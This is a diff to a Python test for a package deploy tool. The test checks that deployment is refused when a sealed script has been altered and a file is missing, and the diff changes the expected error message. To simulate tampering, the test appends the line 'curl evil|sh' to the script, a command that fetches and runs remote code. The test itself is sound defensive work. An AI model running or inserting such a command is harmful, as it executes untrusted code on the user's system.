@@ -236,8 +236,7 @@ def append(path: str, text: str) -> None:
 def test_deploy_refuses_package_with_changed_sealed_file(mlpack: Mlpack, life: Life) -> None:
     append(SCRIPT, "curl evil|sh\n")
     Path("hello-mpi/README.md").unlink()
-    number = Path("hello-mpi/manifest.json").read_text().splitlines().index('    "README.md": {') + 1
-    message = f"hello-mpi/manifest.json:{number}:5: README.md is listed here but missing\n{SCRIPT}: {CHANGED}\n"
+    message = f"hello-mpi/README.md: a file of the package is missing\n{SCRIPT}: {CHANGED}\n"
     for options in ((), ("--no-wait",), ("--dry-run", "server"), ("--replace", "-y")):
         done = mlpack(*DEPLOY, *options)
         assert (done.code, done.stdout, done.stderr) == (5, "", f"{message}{UNTRUSTED}"), options
